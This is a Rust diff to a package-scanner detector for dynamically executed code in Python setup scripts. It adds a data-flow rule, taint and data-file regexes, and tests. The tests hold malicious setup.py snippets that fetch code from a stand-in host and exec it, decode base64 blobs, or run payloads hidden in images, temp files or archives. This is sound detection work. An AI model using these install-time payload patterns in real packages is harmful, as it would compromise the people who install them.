@@ -16,6 +16,12 @@
 //! or reads input, the path names a place outside the tree (an absolute, home, temp,
 //! environment or parent path, also through the names the path uses: `here =
 //! tempfile.gettempdir()`), or the module writes the same file itself.
+//! Beyond those shapes, the general rule for install-time code ([`runs_only_tree_text`]):
+//! text whose every source — followed through the module's names and helpers — is a file
+//! read from inside the tree, with no fetch, decoder, archive member, process output, input,
+//! environment, character codes, outside path, data file or file the module writes anywhere
+//! in that flow, is Medium (served, annotated) whatever the processing between the read and
+//! the run.
 //! Code in a setup.py command pip never runs ([`super::context::in_maintainer_command`],
 //! [`super::context::in_argv_command`]) is Medium, as at run time: it does not run at install.
 //! Running a file by path (`runpy.run_path`, `imp.load_source`, `SourceFileLoader`,
@@ -35,7 +41,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.dynamic-code",
-    revision: 13,
+    revision: 14,
     title: "Executes dynamically built code.",
     category: Category::Execution,
     severity: Severity::Medium,
@@ -1162,6 +1168,14 @@ impl Detector for DynamicCode {
                 );
                 continue;
             }
+            // The general rule: text whose every source is a file of the sdist's own tree.
+            if plain && file.role == FileRole::InstallTime && runs_only_tree_text(file.text, name.start(), whole.end())
+            {
+                let ind = format!("{} (text read from the package's own files)", name.as_str());
+                let ev = pysrc::evidence(file, name.start(), ind);
+                hits.push(&META, Hit { severity: Some(Severity::Medium), evidence: ev });
+                continue;
+            }
             // In a setup.py command pip never runs (a maintainer's `python setup.py dependencies`,
             // a branch for `publish`): not install-time code, so the runtime Medium.
             if file.role == FileRole::InstallTime
@@ -1277,6 +1291,274 @@ fn fetched_to(text: &str, args: &str, path: &str) -> bool {
     text.lines().filter(|l| FETCHES.is_match(l) || WRITES.is_match(l)).any(|l| {
         files.iter().any(|f| l.contains(f))
             || name.is_some_and(|nm| l.split(|ch: char| !(ch.is_alphanumeric() || ch == '_')).any(|w| w == nm))
+    })
+}
+
+/// The general rule for install-time code, whatever the spelling: exec/eval/compile of text
+/// whose every source, followed through the names and helpers of the module, is a file read
+/// from inside the sdist's own tree. The version-reader rules above name the shapes of the
+/// classic idiom (Low); this one judges the data flow instead of the shape (a read, then any
+/// text processing: splits, slices, regexes, joins, formatting, `ast` walks), so a spelling
+/// no rule names is still the package's own text. Benign when all of these hold:
+/// * the module downloads nothing and decodes nothing ([`FETCHES`], [`DECODES`], `base64`):
+///   what such a module runs may be what it saved or unpacked;
+/// * the argument's closure — the argument, the values of the names it uses (`name = …`,
+///   `for name in …:`, `with … as name:`, three names deep) and the bodies of the module's
+///   functions it calls — reads a file (`open`, `read_text`, …) and holds no taint
+///   ([`CLOSURE_TAINT`]: a fetch, a decoder or unpacker, an archive member, a process's output,
+///   standard input, the environment or the command line, code built from character codes or
+///   reversed, dynamic imports), no place outside the tree ([`OUTSIDE`]: absolute, home,
+///   temp, environment, parent, interpreter directories) and no data file's name (an image,
+///   sound, pickle or binary: a payload hidden in data, [`DATA_FILE`]);
+/// * no name of the closure is a parameter of the function the call sits in (the text then
+///   comes from callers this rule does not follow);
+/// * the module writes no file the closure reads (a file written earlier in the same script
+///   holds whatever the script put there).
+fn runs_only_tree_text(text: &str, at: usize, after_paren: usize) -> bool {
+    if FETCHES.is_match(text) || DECODES.is_match(text) {
+        return false;
+    }
+    let Some(args) = argument_text(text, after_paren) else { return false };
+    let Some(closure) = closure_of(text, first_argument(args), at) else { return false };
+    let blanked = blank_strings(&closure);
+    let code = COMMENT.replace_all(&blanked, "");
+    let reads =
+        ["open(", ".read(", "read_text(", "readlines(", "readline(", "fileinput"].iter().any(|r| code.contains(r));
+    // `.decode("utf-8")` is text; any other codec (Python 2's `.decode("base64")`) unpacks.
+    let decodes = closure.matches(".decode(").count() != TEXT_DECODES.find_iter(&closure).count();
+    reads
+        && !decodes
+        && !CLOSURE_TAINT.is_match(&code)
+        && !DATA_FILE.is_match(&closure)
+        && !writes_what_it_reads(text, &closure)
+}
+
+/// What makes exec'd text not the package's own: fetches, decoders and unpackers, archive
+/// members, a process's output, input, the environment, the command line, text built from
+/// character codes or reversed, dynamic imports, places outside the tree (strings blanked).
+static CLOSURE_TAINT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|ftplib|paramiko|pycurl|wget|curl|getresponse|b64|base64|b32|b85|a85|hexlify|fromhex|decompress|zlib|lzma|bz2|gzip|marshal|pickle|rot13|codecs\.decode|zipfile|tarfile|extractfile|zipimport|check_output|getoutput|popen|subprocess|communicate|\.stdout|input\(|stdin|environ|getenv|argv|\bchr\(|\bord\(|bytes\(|bytearray\(|::\s*-\s*1|__import__|import_module|getattr|{OUTSIDE}"
+    ))
+    .expect("closure taint")
+});
+
+/// A literal naming a data file (image, sound, video, pickle, binary blob, compiled code): a
+/// payload read back from such a file is hidden in data, not the package's source text.
+static DATA_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\.(?:png|jpe?g|gif|bmp|ico|tiff?|webp|wav|mp3|ogg|flac|mp4|avi|bin|dat|pyc|pyo|pkl|pickle|npy|npz|db|sqlite|so|dll|dylib|exe)['"]"#)
+        .expect("data file")
+});
+
+/// The argument `arg` (unblanked) of a call at byte `at` and everything its value comes from in
+/// the module: the logical lines assigning the names it uses (`name = …`, `for name in …:`,
+/// `with … as name:`), followed three names deep, and the bodies of the module's functions it
+/// calls. `None` when a name is a parameter of the function the call sits in, or the closure
+/// grows past 20,000 bytes.
+fn closure_of(text: &str, arg: &str, at: usize) -> Option<String> {
+    let params = enclosing_parameters(text, at);
+    let mut closure = arg.to_string();
+    let mut seen: Vec<String> = Vec::new();
+    let mut frontier = vec![(arg.to_string(), at)];
+    for _ in 0..3 {
+        let mut next = Vec::new();
+        for (piece, off) in frontier {
+            let blanked = blank_strings(&piece);
+            let code = COMMENT.replace_all(&blanked, "");
+            for (name, follows) in names_in(&code) {
+                let name = name.to_string();
+                if seen.contains(&name) || KEYWORDS.contains(&name.as_str()) {
+                    continue;
+                }
+                seen.push(name.clone());
+                if follows == Next::Call {
+                    if let Some(body) = helper_body(text, &name) {
+                        closure.push('\n');
+                        closure.push_str(&body);
+                        next.push((body, off));
+                    }
+                    continue;
+                }
+                if follows == Next::Keyword {
+                    continue; // a keyword argument's name
+                }
+                if params.contains(&name) {
+                    return None;
+                }
+                for (line, o) in binding_lines(text, &name, off) {
+                    closure.push('\n');
+                    closure.push_str(&line);
+                    next.push((line, o));
+                }
+            }
+        }
+        if closure.len() > 20_000 {
+            return None;
+        }
+        frontier = next;
+    }
+    Some(closure)
+}
+
+/// What follows a name in code: a call's `(`, a keyword argument's `=`, or anything else.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Next {
+    Call,
+    Keyword,
+    Name,
+}
+
+/// Every name in `code` (strings blanked) that is not an attribute (`.path`) nor part of a
+/// number, with what follows it. Unlike [`PATH_NAME`], a name right after a call's `(`
+/// (`compile(tree`, `open(p`) is found too.
+fn names_in(code: &str) -> Vec<(&str, Next)> {
+    let b = code.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        if c.is_ascii_alphabetic() || c == b'_' {
+            let start = i;
+            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
+                i += 1;
+            }
+            let before = start.checked_sub(1).map(|j| b[j]);
+            if matches!(before, Some(b'.')) || before.is_some_and(|x| x.is_ascii_digit() || x >= 0x80) {
+                continue;
+            }
+            let mut j = i;
+            while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
+                j += 1;
+            }
+            let next = match (b.get(j), b.get(j + 1)) {
+                (Some(b'('), _) => Next::Call,
+                (Some(b'='), Some(x)) if *x != b'=' => Next::Keyword,
+                _ => Next::Name,
+            };
+            out.push((&code[start..i], next));
+        } else if c.is_ascii_digit() || c >= 0x80 {
+            // A number's digits and letters (`0x1f`), or a non-ASCII name: skipped whole.
+            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] >= 0x80) {
+                i += 1;
+            }
+        } else {
+            i += 1;
+        }
+    }
+    out
+}
+
+/// Python words [`closure_of`] does not follow as names.
+const KEYWORDS: &[&str] = &[
+    "and", "or", "not", "in", "is", "if", "else", "for", "lambda", "None", "True", "False", "with", "as", "from",
+    "import", "return", "yield", "await", "async", "def", "class", "while", "try", "except", "finally", "global",
+    "nonlocal", "del", "pass", "break", "continue", "raise", "assert", "elif", "__file__", "__name__",
+];
+
+/// The logical lines (unblanked) that bind `name` and can reach byte `at`: `name = …`, `for
+/// name in …:`, `with … as name:`, and `import` lines naming it (a module is no text).
+fn binding_lines(text: &str, name: &str, at: usize) -> Vec<(String, usize)> {
+    let scope = top_statement_start(text, at);
+    let mut out: Vec<(String, usize)> = assignments(text, name)
+        .into_iter()
+        .filter(|a| reaches(text, scope, a.start))
+        .map(|a| (logical_line(text, a.start), a.start))
+        .collect();
+    for (s, _) in lines_with(text, name) {
+        let line = logical_line(text, s);
+        let t = line.trim_start();
+        let binds_as = t.starts_with("with ")
+            && line
+                .split(|c: char| !(c.is_alphanumeric() || c == '_'))
+                .collect::<Vec<_>>()
+                .windows(2)
+                .any(|w| w == ["as", name]);
+        if binds_as && reaches(text, scope, s) {
+            out.push((line, s));
+        }
+    }
+    out
+}
+
+/// The body of `def func(…):` (through its last indented line) or the expression of
+/// `func = lambda …: …`, unblanked.
+fn helper_body(text: &str, func: &str) -> Option<String> {
+    if let Some((indent, start)) = helper_def(text, func) {
+        let mut offset = text[start..].find('\n').map_or(text.len(), |i| start + i + 1);
+        let body_start = offset;
+        let mut body_end = text.len();
+        for line in text[offset..].split_inclusive('\n') {
+            let trimmed = line.trim_start();
+            if !trimmed.is_empty() && !trimmed.starts_with('#') && line.len() - trimmed.len() <= indent {
+                body_end = offset;
+                break;
+            }
+            offset += line.len();
+        }
+        // A one-line `def f(): return …` keeps its body on the signature's line.
+        let from = if body_start >= body_end { start } else { start.min(body_start) };
+        return Some(text[from..body_end.max(from)].to_string());
+    }
+    let re = Regex::new(&format!(r"(?m)^[ \t]*{}[ \t]*=[ \t]*lambda\b", regex::escape(func))).ok()?;
+    let m = re.find(text)?;
+    Some(logical_line(text, m.start()))
+}
+
+/// The parameter names of the `def` whose body holds byte `at` (none at module level).
+fn enclosing_parameters(text: &str, at: usize) -> Vec<String> {
+    let line_start = text[..pysrc::floor_char(text, at)].rfind('\n').map_or(0, |i| i + 1);
+    let indent = text[line_start..].len() - text[line_start..].trim_start_matches([' ', '\t']).len();
+    if indent == 0 {
+        return Vec::new();
+    }
+    // The nearest `def` above with less indentation.
+    let mut end = line_start;
+    while end > 0 {
+        let start = text[..end - 1].rfind('\n').map_or(0, |i| i + 1);
+        let line = &text[start..end - 1];
+        let trimmed = line.trim_start_matches([' ', '\t']);
+        let ind = line.len() - trimmed.len();
+        if !trimmed.is_empty() && ind < indent {
+            if let Some(c) = DEF_LINE.captures(line) {
+                let sig = logical_line(text, start + c.get(0).expect("match").end() - 1);
+                let inner = argument_text(&sig, 1).unwrap_or("");
+                return inner
+                    .split(',')
+                    .filter_map(|p| {
+                        let p = p.trim().trim_start_matches('*');
+                        let n = p.split([':', '=']).next().unwrap_or("").trim();
+                        (!n.is_empty() && n != "self" && n != "cls").then(|| n.to_string())
+                    })
+                    .collect();
+            }
+            if trimmed.starts_with("class ") {
+                return Vec::new();
+            }
+        }
+        end = start;
+    }
+    Vec::new()
+}
+
+/// Whether the module writes a file the closure reads: the same file name as a literal, or the
+/// same path name ([`WRITES`]), whatever else the module does.
+fn writes_what_it_reads(text: &str, closure: &str) -> bool {
+    let files = |s: &str| -> Vec<String> {
+        STRING
+            .find_iter(s)
+            .map(|m| m.as_str().trim_matches(['"', '\'']).rsplit(['/', '\\']).next().unwrap_or("").to_string())
+            .filter(|f| f.len() > 1 && f.contains('.'))
+            .collect()
+    };
+    let read = files(closure);
+    let blanked = blank_strings(closure);
+    let names: Vec<&str> = names_in(&blanked).into_iter().filter(|(_, n)| *n == Next::Name).map(|(w, _)| w).collect();
+    WRITES.captures_iter(text).any(|c| {
+        let target = c.name("o").or(c.name("p")).or(c.name("d")).map_or("", |m| m.as_str()).trim();
+        files(target).iter().any(|f| read.contains(f))
+            || (!target.is_empty()
+                && target.chars().all(|ch| ch.is_alphanumeric() || ch == '_')
+                && names.contains(&target))
     })
 }
 
@@ -1942,6 +2224,103 @@ mod tests {
     /// spelling, is at most Medium (served); the same shapes around a fetch, a decoder, a file
     /// outside the sdist's tree, a string built in place or a file the module wrote itself
     /// still reach High (blocked at install time by the shipped policy).
+    /// The general rule ([`runs_only_tree_text`]): install-time exec/eval/compile of text whose
+    /// every source is a file of the sdist's own tree is Medium (served, annotated) whatever the
+    /// processing between the read and the run — spellings no version-reader rule names. The
+    /// same shapes around a fetched body, a decoded blob, a file outside the tree, a file the
+    /// script wrote, a data file, a process's output, the environment, a caller's value, code
+    /// built from character codes or reversed, or an archive member stay High.
+    #[test]
+    fn install_time_code_run_from_the_packages_own_files_is_medium_whatever_the_spelling() {
+        use crate::scan::detectors::testutil::scan;
+        let benign: &[(&str, &str)] = &[
+            (
+                "a read, stripped and a newline added",
+                "def get_meta():\n    meta = {}\n    with open(os.path.join(HERE, 'pkg', '__meta__.py')) as fp:\n        src = fp.read()\n    exec(src.strip() + '\\n', meta)\n    return meta\n",
+            ),
+            (
+                "a chain of splits on the whole read",
+                "version = eval(open('pkg/__init__.py').read().split('__version__ =')[1].split('\\n')[0])\n",
+            ),
+            (
+                "a slice between two indexes of the text",
+                "text = open('pkg/version.py').read()\nversion = eval(text[text.index('=') + 1:text.index('\\n')])\n",
+            ),
+            (
+                "an ast tree of the file compiled and run",
+                "tree = ast.parse(open('pkg/__init__.py').read())\ntree.body = [n for n in tree.body if isinstance(n, ast.Assign)]\nexec(compile(tree, 'pkg/__init__.py', 'exec'), ns)\n",
+            ),
+            ("some lines of the file joined", "lines = open('pkg/about.py').readlines()\nexec(''.join(lines[2:10]), about)\n"),
+            (
+                "a read with an import line replaced, pathlib",
+                "info = {}\nexec((HERE / 'pkg' / 'info.py').read_text(encoding='utf-8').replace('from . import x', ''), info)\n",
+            ),
+            ("a read formatted into a template", "exec('{}\\n'.format(open('pkg/v.py').read()), ns)\n"),
+            (
+                "a helper that reads, called with a format",
+                "def read(*parts):\n    with codecs.open(os.path.join(HERE, *parts), 'r') as fp:\n        return fp.read()\n\nexec(read('pkg', 'version.py') % {}, ns)\n",
+            ),
+            (
+                "a regex substitution of the read",
+                "src = re.sub(r'^from .*$', '', open('pkg/_version.py').read(), flags=re.M)\nexec(src, ns)\n",
+            ),
+        ];
+        let mut wrong = Vec::new();
+        for (name, text) in benign {
+            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
+            if got.is_empty() || !got.iter().all(|g| g.severity <= Severity::Medium) {
+                wrong.push(format!("benign {name:?}: {got:?}"));
+            }
+        }
+        let malicious: &[(&str, &str)] = &[
+            ("a fetched body", "code = urlopen('http://x/p').read().decode()\nexec(code.strip() + '\\n')\n"),
+            (
+                "a decoded blob from a file of the tree",
+                "blob = open('pkg/data.txt').read()\nexec(base64.b64decode(blob).decode() + '')\n",
+            ),
+            ("an absolute path", "exec(open('/tmp/p.py').read().strip() + '\\n')\n"),
+            ("a file in home", "exec(open(os.path.expanduser('~/.cache/x.py')).read() + '')\n"),
+            ("a parent-directory path", "exec(open('../hook.py').read().strip() + '\\n')\n"),
+            (
+                "a file this script wrote from a literal",
+                "PAYLOAD = 'import os'\nopen('pkg/gen.py', 'w').write(PAYLOAD)\nexec(open('pkg/gen.py').read().strip() + '\\n')\n",
+            ),
+            (
+                "a file this script wrote, through a name",
+                "p = os.path.join(HERE, 'pkg', 'g.py')\nwith open(p, 'w') as f:\n    f.write(P)\nexec(open(p).read() + '')\n",
+            ),
+            ("the tail of an image", "exec(open('pkg/logo.png', 'rb').read()[4096:].strip())\n"),
+            (
+                "a process's output beside a read",
+                "exec(open('pkg/v.py').read() + subprocess.check_output(['git', 'show', 'x']).decode())\n",
+            ),
+            ("an environment path", "exec(open(os.environ['HOOK_FILE']).read() + '')\n"),
+            ("a caller's value", "def run(src):\n    exec(src + '\\n')\n\nrun(open('pkg/v.py').read())\n"),
+            ("character codes beside a read", "exec(''.join(chr(c) for c in CODES) + open('pkg/v.py').read())\n"),
+            ("a reversed read", "exec(open('pkg/v.txt').read()[::-1])\n"),
+            ("an archive member", "exec(zipfile.ZipFile('pkg/d.zip').open('a.py').read() + b'')\n"),
+            ("a temp dir through a name", "d = tempfile.gettempdir()\nexec(open(os.path.join(d, 'x.py')).read() + '')\n"),
+            (
+                "a module that downloads elsewhere",
+                "urlretrieve(U, 'pkg/_v.txt')\nexec(open('pkg/_v.txt').read().strip() + '\\n')\n",
+            ),
+            ("no read at all: a literal held in a name", "code = 'import os'\nexec(code + '\\n')\n"),
+            ("standard input", "exec(sys.stdin.read().strip() + '\\n')\n"),
+        ];
+        for (name, text) in malicious {
+            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
+            if !got.iter().any(|g| g.severity >= Severity::High) {
+                wrong.push(format!("malicious {name:?} is served: {got:?}"));
+            }
+        }
+        // Code that runs on import keeps the runtime severity: this rule judges install-time code only.
+        let import_time = scan(&DynamicCode, "pkg/__init__.py", FileRole::Runtime, "exec(urlopen(U).read() + b'')\n");
+        if import_time.first().map(|g| g.severity) != Some(Severity::Medium) {
+            wrong.push(format!("module top level changed: {import_time:?}"));
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
     #[test]
     fn version_idioms_in_any_spelling_are_served_and_their_malicious_variants_block() {
         use crate::scan::detectors::testutil::scan;
